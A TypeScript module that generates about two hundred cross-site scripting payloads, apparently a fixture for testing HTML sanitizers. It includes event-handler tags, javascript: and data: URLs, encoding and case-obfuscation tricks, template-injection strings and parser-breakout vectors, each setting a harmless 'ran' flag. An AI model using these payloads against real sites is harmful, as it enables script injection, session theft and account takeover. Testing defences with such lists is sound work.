/** How a text could leave the place it was put in. */
const OUT = [`">`, `'>`, `-->`, `]]>`, `</p>`, `</title>`, `</script>`, `</textarea>`];

const TAGS = [
  ...["img src=x", "svg", "body", "details open", "video src=x", "audio src=x", "input autofocus"],
  ...["select autofocus", "marquee", "iframe", "object data=x", "math", "a href=x", "div tabindex=1", "p"],
];
const EVENTS = ["onload", "onerror", "onfocus", "ontoggle", "onstart", "onanimationstart", "onpointerover"];

const SCRIPTS = [
  `<script>ran=1</script>`,
  `<script src=data:,ran=1></script>`,
  `<ScRiPt>ran=1</sCrIpT>`,
  `<script/x>ran=1</script>`,
  `<svg><script>ran=1</script>`,
];

/** Addresses that run; what follows is a remark to them. */
const ADDRESSES = [
  `javascript:ran=1//`,
  `JaVaScRiPt:ran=1//`,
  `\tjavascript:ran=1//`,
  `java\tscript:ran=1//`,
  `javascript&colon;ran=1//`,
  `&#106;avascript:ran=1//`,
  `data:text/html,<script>top.ran=1</script>`,
  `vbscript:ran=1//`,
  `<a href="javascript:ran=1" autofocus>x</a>`,
  `<form action=javascript:ran=1><button>`,
  `<base href=javascript:ran=1//>`,
  `<meta http-equiv=refresh content=0;url=javascript:ran=1>`,
  `<iframe src=javascript:top.ran=1>`,
  `<iframe srcdoc='<script>top.ran=1</script>'>`,
  `<embed src=javascript:ran=1>`,
  `<svg><a xlink:href=javascript:ran=1>x`,
];

const ODDITIES = [
  `{{constructor.constructor('ran=1')()}}`,
  "${ran=1}",
  `#{ran=1}`,
  `<%=ran=1%>`,
  `\\u003cscript>ran=1</script>`,
  `\\x3csvg onload=ran=1>`,
  `%3Cscript%3Eran=1%3C/script%3E`,
  `&lt;script&gt;ran=1&lt;/script&gt;`,
  `＜script＞ran=1＜/script＞`,
  `<svg><animate onbegin=ran=1>`,
  `<template><script>ran=1</script>`,
  `<noscript><p title="</noscript><img src onerror=ran=1>">`,
  `<xmp><p title="</xmp><svg/onload=ran=1>">`,
  `<!--><svg onload=ran=1>-->`,
  `";ran=1;//`,
  `';ran=1;//`,
  "`;ran=1;//",
  `\\";ran=1;//`,
  `"-(ran=1)-"`,
  `<style>@import'javascript:ran=1';</style>`,
];

const out = (nr: number) => OUT[nr % OUT.length] ?? "";

/** Two hundred texts that run as script, each setting `ran`, wherever a page takes what somebody wrote for its own. */
export const payloads: string[] = [
  ...TAGS.flatMap((tag, row) => EVENTS.map((event, nr) => `${out(row + nr)}<${tag} ${event}=ran=1>`)),
  ...SCRIPTS.flatMap((script) => OUT.map((leave) => leave + script)),
  ...ADDRESSES,
  ...ODDITIES,
  ...OUT.flatMap((leave) => [
    `${leave}<svg/onload=ran=1>`,
    `${leave}<img/src/onerror=ran=1>`,
    `${leave}<x onclick=ran=1>`,
  ]),
];
